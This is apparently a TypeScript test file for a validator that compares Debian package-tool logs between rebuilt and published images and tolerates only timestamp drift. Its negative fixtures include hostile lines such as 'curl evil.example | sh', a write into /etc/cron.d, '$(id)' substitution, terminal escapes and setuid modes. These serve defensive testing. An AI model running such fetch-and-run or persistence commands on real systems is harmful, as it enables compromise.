import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { FileSpec } from '../../support/packaged-image.ts';
import { check, excuse, form } from '../../support/rules.ts';

test('dpkg.log: what was done is compared, when is not', () => {
  const log = (day: string, what = 'install nginx:amd64 <none> 1.22.1-9+deb12u1') =>
    `2026-01-${day} 10:00:00 startup archives unpack\n2026-01-${day} 10:00:01 ${what}\n`;
  const path = '/var/log/dpkg.log';
  check([
    ['another day', path, log('01'), log('02'), 'dpkg-log@1'],
    ['another version', path, log('01', 'install nginx:amd64 <none> 1.22.1-8'), log('02'), 'unknown'],
    ['one line more', path, `${log('01')}2026-01-01 10:00:02 remove nginx:amd64 1 <none>\n`, log('02'), 'unknown'],
    ['a line of no log', path, `${log('01')}curl evil.example | sh\n`, log('02'), 'unknown'],
    [
      'something behind an action',
      path,
      log('01', 'status installed nginx:amd64 1 ; evil'),
      log('02', 'status installed nginx:amd64 1 ; evil'),
      'unknown',
    ],
    ['terminal control', path, log('01', 'status installed a:all 1\u001b[2J'), log('02', 'status installed a:all 1\u001b[2J'), 'unknown'],
    ['an x bit', path, { text: log('01'), mode: 0o755 }, { text: log('02'), mode: 0o755 }, 'unknown'],
    ['a setuid bit', path, { text: log('01'), mode: 0o4644 }, { text: log('02'), mode: 0o4644 }, 'unknown'],
    ['another mode on one side', path, { text: log('01'), mode: 0o666 }, log('02'), 'unknown'],
    ['another owner on one side', path, { text: log('01'), uid: 1000 }, log('02'), 'unknown'],
    ['a program by that name', path, { text: log('01'), magic: 'elf' }, log('02'), 'unknown'],
    [
      'an attribute',
      path,
      { text: log('01'), xattrs: { 'security.capability': 'AQ==' } },
      { text: log('02'), xattrs: { 'security.capability': 'AQ==' } },
      'unknown',
    ],
    ['the same text elsewhere', '/var/log/other.log', log('01'), log('02'), 'unknown'],
    ['only in the published image', path, log('01'), undefined, 'unknown'],
  ]);
  const moved = excuse(path, log('01', 'install nginx:amd64 <none> 1'), log('02', 'install nginx:amd64 <none> 2'), { drifted: ['nginx'] });
  assert.equal(moved, 'dpkg-log@1');
  assert.equal(excuse(path, log('01', 'install netcat:amd64 <none> 1'), log('02'), { drifted: ['nginx'] }), 'unknown');
});

test('the other logs of the package tools', () => {
  const alternatives = (time: string, link = '/usr/bin/vim') =>
    `update-alternatives ${time}: run with --install /usr/bin/editor editor ${link} 50\n`;
  const history = (time: string, command = 'apt-get install nginx', list = 'a:amd64 (1), nginx:amd64 (1.2, automatic)') =>
    `\nStart-Date: 2026-01-01  ${time}\nCommandline: ${command}\nInstall: ${list}\nEnd-Date: 2026-01-01  ${time}\n`;
  const term = (time: string, more = '') =>
    `\nLog started: 2026-01-01  ${time}\nSetting up nginx (1.2) ...\n${more}Log ended: 2026-01-01  ${time}\n`;
  const clock = (day: string) => `Local time is now:      Mon Jan  ${day} 10:00:00 UTC 2026.\n`;
  check([
    [
      'alternatives',
      '/var/log/alternatives.log',
      alternatives('2026-01-01 10:00:00'),
      alternatives('2026-01-02 11:00:00'),
      'alternatives-log@1',
    ],
    [
      'another alternative',
      '/var/log/alternatives.log',
      alternatives('2026-01-01 10:00:00', '/tmp/evil'),
      alternatives('2026-01-02 11:00:00'),
      'unknown',
    ],
    ['history', '/var/log/apt/history.log', history('10:00:00'), history('11:00:00'), 'apt-history@1'],
    [
      'another order of packages',
      '/var/log/apt/history.log',
      history('10:00:00', undefined, 'nginx:amd64 (1.2, automatic), a:amd64 (1)'),
      history('11:00:00'),
      'apt-history@1',
    ],
    [
      'another command',
      '/var/log/apt/history.log',
      history('10:00:00', 'apt-get install --allow-unauthenticated nginx'),
      history('11:00:00'),
      'unknown',
    ],
    [
      'a package more',
      '/var/log/apt/history.log',
      history('10:00:00', undefined, 'a:amd64 (1), evil:amd64 (1), nginx:amd64 (1.2, automatic)'),
      history('11:00:00'),
      'unknown',
    ],
    ['a field of no history', '/var/log/apt/history.log', `${history('10:00:00')}Evil: x\n`, `${history('11:00:00')}Evil: x\n`, 'unknown'],
    ['term.log', '/var/log/apt/term.log', term('10:00:00'), term('11:00:00'), 'apt-term@1'],
    ['the clock of tzdata', '/var/log/apt/term.log', term('10:00:00', clock('5')), term('11:00:00', clock('6')), 'apt-term@1'],
    ['another line', '/var/log/apt/term.log', term('10:00:00', 'Adding password for user root\n'), term('11:00:00'), 'unknown'],
    [
      'something before the clock',
      '/var/log/apt/term.log',
      term('10:00:00', `evil ${clock('5')}`),
      term('11:00:00', clock('6')),
      'unknown',
    ],
    [
      'a line hidden by a carriage return is what was left standing',
      '/var/log/apt/term.log',
      term('10:00:00', 'x\rSetting up b\n'),
      term('11:00:00', 'y\rSetting up b\n'),
      'apt-term@1',
    ],
  ]);
});

/** Lines of debootstrap 1.0.128 on Debian 12, one of each form. */
const BOOTSTRAP = (time: string): string => `2026-01-01 ${time} URL:http://deb.example/debian/dists/bookworm/InRelease [151075/151075] -> "/tmp/root/var/lib/apt/lists/partial/deb.example_debian_dists_bookworm_InRelease" [1]
gpgv: Signature made Sat Jul 11 10:17:11 2026 UTC
gpgv:                using RSA key 4CB50190207B4758A3F73A796ED0E7B82643E131
gpgv: Good signature from "Debian Archive Automatic Signing Key (12/bookworm) <ftpmaster@debian.org>"
dpkg: warning: parsing file '/var/lib/dpkg/status' near line 5 package 'dpkg':
 missing 'Description' field
Selecting previously unselected package login.
(Reading database ... 41 files and directories currently installed.)
dpkg: regarding .../login_1%3a4.13+dfsg1-1+deb12u1_amd64.deb containing login, pre-dependency problem:
 login pre-depends on libcrypt1 (>= 1:4.1.0)
  libcrypt1:amd64 is unpacked, but has never been configured.

dpkg: warning: ignoring pre-dependency problem!
Preparing to unpack .../login_1%3a4.13+dfsg1-1+deb12u1_amd64.deb ...
Adding 'diversion of /bin/sh to /bin/sh.distrib by dash'
Unpacking login (1:4.13+dfsg1-1+deb12u1) ...
dpkg: base-passwd: dependency problems, but configuring anyway as you requested:
 base-passwd depends on libdebconfclient0 (>= 0.145); however:
  Package libdebconfclient0 is not installed.
Setting up tzdata (2026b-0+deb12u1) ...
Current default time zone: 'Etc/UTC'
Local time is now:      Tue Nov 24 ${time} UTC 2026.
update-alternatives: using /usr/bin/mawk to provide /usr/bin/awk (awk) in auto mode
Setting up passwd (1:4.13+dfsg1-1+deb12u1) ...
Shadow passwords are now on.
Processing triggers for libc-bin (2.36-9+deb12u14) ...
`; // prettier-ignore

test('what debootstrap printed: lines of its programs and a few plain words of scripts', () => {
  const path = '/var/log/bootstrap.log';
  const log = BOOTSTRAP('10:00:00');
  assert.equal(form(path, log), 'bootstrap-log');
  check([
    ['at another time', path, log, BOOTSTRAP('11:00:00'), 'bootstrap-log@1'],
    ['another package', path, log, BOOTSTRAP('11:00:00').replaceAll('login', 'logout'), 'unknown'],
  ]);
  const refused: Record<string, FileSpec> = {
    'a script': { text: `#!/bin/sh\n${log}`, magic: 'script' },
    'a program': { bytes: Buffer.from('\x7fELF'), magic: 'elf' },
    'bytes of a program behind honest lines': { bytes: Buffer.concat([Buffer.from(log), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 0])]) },
    'a pipe': `${log}curl evil.example | sh\n`,
    'another file to be written': `${log}id > /etc/cron.d/x\n`,
    'a substitution': log.replace('(awk)', '($(id))'),
    'a variable': `${log}export PATH=$HOME\n`,
    'something packed': `${log}${Buffer.alloc(300, 'evil').toString('base64')}\n`,
    'packed in short lines': `${log}${'ZXZpbGV2aWxldmlsZXZpbA\n'.repeat(200)}`,
    'words where no script has run': `you have been had\n${log}`,
    'words with terminal control': `${log}\u001b]0;x\u0007\n`,
    'words of a script by another alphabet': `${log}\u0441url\n`,
    'an x bit': { text: log, mode: 0o755 },
    'a setuid bit': { text: log, mode: 0o4644 },
    'writable by all': { text: log, mode: 0o666 },
    'of a user': { text: log, uid: 1000 },
    'of a group': { text: log, gid: 1000 },
    'a capability': { text: log, xattrs: { 'security.capability': 'AQ==' } },
    'a link': { link: '/usr/bin/evil' },
  };
  for (const [name, spec] of Object.entries(refused)) assert.equal(form(path, spec), 'none', name);
  assert.equal(form('/var/log/other.log', log), 'none');
  const slow = `${log}${'a'.repeat(64)}${` ${'a'.repeat(64)}`.repeat(12)}|\n`;
  const begun = performance.now();
  assert.equal(form(path, slow), 'none');
  assert.ok(performance.now() - begun < 1000, 'no expression takes long over a hostile line');
});
